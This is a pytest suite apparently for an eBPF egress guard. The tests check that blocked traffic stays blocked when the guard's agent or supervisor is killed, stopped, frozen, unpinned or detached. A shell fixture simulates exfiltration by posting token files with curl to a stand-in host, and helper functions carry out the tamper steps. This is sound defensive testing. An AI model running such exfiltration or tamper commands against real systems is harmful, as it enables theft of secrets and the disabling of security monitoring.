# SPDX-License-Identifier: MIT
"""What is denied stays denied whatever is done to the agent, and the report says when."""

from __future__ import annotations

import contextlib
import json
import os
import re
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path

import pytest

from faults.conftest import nothing_is_left  # noqa: F401 -- for all of these tests
from faults.scene import Running, Story, attached, is_there, wait_until
from lab import Lab, cgroup
from lab.guard import Guarded
from lab.network import BARE
from lab.tokens import home_made
from leakstop.model.clock import clock
from leakstop.sensor.machine import Machine

pytestmark = pytest.mark.root

COVERAGE_LOST, DENIED, FINDINGS = 12, 11, 10
POLICY = "version: 1\nmode: block\nallow: home.test\n"
OUTSIDE = {BARE, "other.test"}
"""Where the command wants to go and no rule leads."""

FINDING = f"""
give() {{ (export "$1=$(cat $LAB/$1)"; exec sleep 2); }}
send() {{ curl -s -m 5 -d "q=$(cat $LAB/$1)" http://{BARE}/; }}
touch $LAB/up
give FIRST_TOKEN
while [ ! -e $LAB/go ]; do sleep 0.01; done
give LATER_TOKEN
while [ ! -e $LAB/end ]; do sleep 0.01; done
send FIRST_TOKEN; send LATER_TOKEN; true
"""


@pytest.fixture
def blocked(lab: Lab, tmp_path: Path) -> Iterator[Story]:
    yield Story(lab, tmp_path, POLICY)
    assert lab.other.bytes_received == 0
    assert lab.collector.bytes_received == 0


def ended(story: Story) -> Guarded:
    """Let the command try again, and end."""
    story.go_on()
    story.end()
    done = story.run.end()
    story.assert_taken_down()
    assert done.stdout == "ok\n", "what is allowed goes on"
    return done


def assert_gap(done: Guarded, why: str, *, began: float, code: int = COVERAGE_LOST) -> None:
    """The run is red; finding and first lines say from when to when. All tries are in it."""
    over = time.time()
    assert done.code == code, done.stderr
    assert done.report["coverage"]["agent_died"] is False
    gap = done.report["coverage"]["gaps"][0]
    since, until = (_seconds(gap[name]) for name in ("since", "until"))
    assert began - 2 <= since <= until <= over
    assert why in gap["why"]
    finding = done.findings("coverage-lost")[0]
    times = f"from {clock(since)} to {clock(until)}"
    assert times in finding["action_taken"]
    assert why in finding["action_taken"]
    first = " ".join(re.split(r"\s+", done.stderr.partition("Leakstop: ")[2])[:40])
    assert times in first
    denied = [flow for flow in done.report["flows"] if flow["applied"] == "deny"]
    assert {flow["host"] or flow["ip"] for flow in denied} == OUTSIDE
    assert all(Path(flow["process"]["exe"]).name == "curl" for flow in denied)


def _seconds(text: str) -> float:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).timestamp()


def wait_for_another(story: Story, agent: int) -> None:
    """Wait until the guard has an agent that has taken over."""
    wait_until(lambda: story.run.agent != agent, "there is another agent")
    wait_until(lambda: '"gap"' in story.run.journal(), "it has taken over")


def test_without_a_disturbance_there_is_no_gap(blocked: Story) -> None:
    done = ended(blocked)
    assert done.code == DENIED
    assert done.report["coverage"]["gaps"] == []
    assert done.findings("coverage-lost") == []


# -- the agent ------------------------------------------------------------------------------


def test_an_agent_that_is_killed_is_started_again(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    os.kill(agent, signal.SIGKILL)
    done = ended(blocked)
    assert_gap(done, "the agent was killed by SIGKILL", began=began)
    assert not is_there(agent)


def test_what_an_agent_finds_after_it_was_started_again_is_watched(
    blocked: Story, lab: Lab
) -> None:
    """It attaches to what is new: the tables and the programs are those that are in force."""
    agent = blocked.run.agent
    os.kill(agent, signal.SIGKILL)
    wait_for_another(blocked, agent)
    assert attached(lab, blocked.links) == list(blocked.links), "not one of them was exchanged"
    done = ended(blocked)
    flows = [flow for flow in done.report["flows"] if flow["host"] == "home.test"]
    assert sum(flow["encrypted"] for flow in flows) == 1
    assert sum(flow["inspected"] for flow in flows) == 1


def found(running: Running) -> set[str]:
    """Names of secrets that were found by now."""
    lines = [line for line in running.journal().splitlines(keepends=True) if line.endswith("\n")]
    events = [json.loads(line) for line in lines]
    return {event["name"] for event in events if event["kind"] == "secretfound"}


def test_what_it_has_found_is_known_to_the_next_one(lab: Lab, tmp_path: Path) -> None:
    """Secrets from an environment are nowhere else than in the agent, and in the kernel's tables,
    which stay. What is found next goes behind them."""
    tokens = {name: home_made(name) for name in ("FIRST_TOKEN", "LATER_TOKEN")}
    for name, token in tokens.items():
        (lab.directory / name).write_text(token.value)
    policy = lab.directory / "ci.yml"
    policy.write_text("version: 1\nmode: audit\nallow: home.test\n")
    running = Running(lab, FINDING, policy=policy, reports=tmp_path / "reports")
    wait_until((lab.directory / "up").exists, "the command runs")
    wait_until(lambda: found(running) == {"FIRST_TOKEN"}, "the first one is found")
    agent = running.agent
    os.kill(agent, signal.SIGKILL)
    wait_until(lambda: running.agent != agent, "there is another agent")
    wait_until(lambda: '"gap"' in running.journal(), "it has taken over")
    (lab.directory / "go").touch()
    wait_until(lambda: found(running) == set(tokens), "the next one is found")
    (lab.directory / "end").touch()
    done = running.end()
    assert done.code == FINDINGS, done.stderr
    assert lab.collector.bytes_received == 0
    stopped = {(each["secret"], each["id"]) for each in done.findings() if each["secret"]}
    assert stopped == {(name, "secret-in-argv") for name in tokens}
    assert [view["name"] for view in done.report["secrets"]] == list(tokens), "each of them once"
    for token in tokens.values():
        assert done.shows(token) == []


def test_an_agent_that_is_killed_again_and_again_is_given_up(blocked: Story) -> None:
    supervisor = blocked.run.supervisor
    while is_there(supervisor):
        with contextlib.suppress(ProcessLookupError, IndexError, FileNotFoundError):
            os.kill(_child_of(supervisor), signal.SIGKILL)
        time.sleep(0.05)
    done = ended(blocked)
    assert done.code == COVERAGE_LOST
    assert done.report["coverage"]["agent_died"] is True
    assert "it is not started again: what is denied stays denied" in done.stderr


def test_an_agent_that_is_stopped_goes_on(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    os.kill(agent, signal.SIGSTOP)
    done = ended(blocked)
    assert_gap(done, "the agent was stopped", began=began)


def test_an_agent_that_is_stopped_twice_is_replaced(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    while is_there(agent):
        with contextlib.suppress(ProcessLookupError):
            os.kill(agent, signal.SIGSTOP)
        time.sleep(0.05)
    wait_for_another(blocked, agent)
    assert_gap(ended(blocked), "the agent was stopped", began=began)


def test_an_agent_that_is_frozen_is_replaced(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    with cgroup.child() as freezer:
        (freezer / "cgroup.procs").write_text(str(agent))
        (freezer / "cgroup.freeze").write_text("1")
        wait_for_another(blocked, agent)
        done = ended(blocked)
    assert_gap(done, "the agent was frozen", began=began)


def test_an_agent_that_cannot_be_frozen_away_says_when_all_of_it_was(blocked: Story) -> None:
    """With its supervisor: nobody is left to notice, until they go on."""
    began = time.time()
    with cgroup.child() as freezer:
        for pid in (blocked.run.supervisor, blocked.run.agent):
            (freezer / "cgroup.procs").write_text(str(pid))
        (freezer / "cgroup.freeze").write_text("1")
        blocked.go_on()
        time.sleep(11)
        (freezer / "cgroup.freeze").write_text("0")
        blocked.end()
        done = blocked.run.end()
    assert_gap(done, "the agent was held up", began=began)


def test_out_of_memory_ends_others_first(blocked: Story) -> None:
    allowed = "CAP_SYS_RESOURCE" in Machine.probe().capabilities
    for pid in (blocked.run.supervisor, blocked.run.agent):
        found = Path(f"/proc/{pid}/oom_score_adj").read_text().strip()
        assert found == ("-1000" if allowed else "0")
    assert ended(blocked).code == DENIED


# -- the supervisor -------------------------------------------------------------------------


def test_without_its_supervisor_the_agent_goes_on_and_says_so(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    supervisor = blocked.run.supervisor
    os.kill(supervisor, signal.SIGKILL)
    wait_until(lambda: '"gap"' in blocked.run.journal(), "the agent notices")
    assert is_there(agent)
    assert_gap(ended(blocked), "the supervisor", began=began)


def test_without_both_of_them_what_is_denied_stays_denied(blocked: Story) -> None:
    blocked.run.kill_all()
    done = ended(blocked)
    assert done.code == COVERAGE_LOST
    assert done.report["coverage"]["agent_died"] is True


# -- pins and links -------------------------------------------------------------------------


def test_unpinning_takes_nothing_off_and_is_undone(blocked: Story, lab: Lab) -> None:
    _unpin(blocked)
    pins = blocked.run.run_dir / "guard-1" / "bpf"
    places = [pins / "on_connect4", pins / "maps" / "events"]
    wait_until(lambda: lab.job.call(lambda: all(p.exists() for p in places)), "they are back")
    assert attached(lab, blocked.links) == list(blocked.links)
    done = ended(blocked)
    assert done.code == FINDINGS
    assert done.report["coverage"]["gaps"] == [], "nothing was off"
    assert done.events("tamper")[0]["trick"] == "mount"


def test_unpinned_and_killed_at_once_it_stays_in_force(blocked: Story, lab: Lab) -> None:
    """The supervisor holds what nobody else does any more."""
    began, agent = time.time(), blocked.run.agent
    os.kill(agent, signal.SIGSTOP)
    _unpin(blocked)
    os.kill(agent, signal.SIGKILL)
    wait_for_another(blocked, agent)
    assert attached(lab, blocked.links) == list(blocked.links)
    assert_gap(ended(blocked), "the agent was", began=began)


def test_what_is_detached_is_attached_again(blocked: Story, lab: Lab) -> None:
    began = time.time()
    programs = ("on_connect4", "on_egress", "on_socket")
    for program in programs:
        _detach(blocked, program)
    wait_until(lambda: all(each in blocked.run.journal() for each in programs), "it notices")
    done = ended(blocked)
    assert_gap(done, "somebody detached on_", began=began, code=FINDINGS)
    assert done.report["coverage"]["gaps"][0]["undecided"] is True
    assert "not decided meanwhile" in done.findings("coverage-lost")[0]["action_taken"]
    assert {event["trick"] for event in done.events("tamper")} == {"bpf"}


def test_what_was_detached_while_nobody_watched_is_attached_by_the_next(blocked: Story) -> None:
    began, agent = time.time(), blocked.run.agent
    os.kill(agent, signal.SIGSTOP)
    _detach(blocked, "on_connect4")
    os.kill(agent, signal.SIGKILL)
    wait_for_another(blocked, agent)
    wait_until(lambda: "somebody detached on_connect4" in blocked.run.journal(), "it notices")
    done = ended(blocked)
    assert_gap(done, "the agent was", began=began, code=FINDINGS)
    assert any(gap["undecided"] for gap in done.report["coverage"]["gaps"])


def _in_job(story: Story, action: Callable[[], object]) -> None:
    """Pins are in the job's mount namespace."""
    story.lab.job.call(action)


def _unpin(story: Story) -> None:
    pins = story.run.run_dir / "guard-1" / "bpf"

    def unlink() -> None:
        for path in (*pins.glob("on_*"), *pins.glob("maps/*")):
            path.unlink()

    _in_job(story, unlink)


def _detach(story: Story, program: str) -> None:
    pin = story.run.run_dir / "guard-1" / "bpf" / program
    command = ["bpftool", "link", "detach", "pinned", str(pin)]
    _in_job(story, lambda: subprocess.run(command, check=True))


def _child_of(supervisor: int) -> int:
    return int(Path(f"/proc/{supervisor}/task/{supervisor}/children").read_text().split()[0])
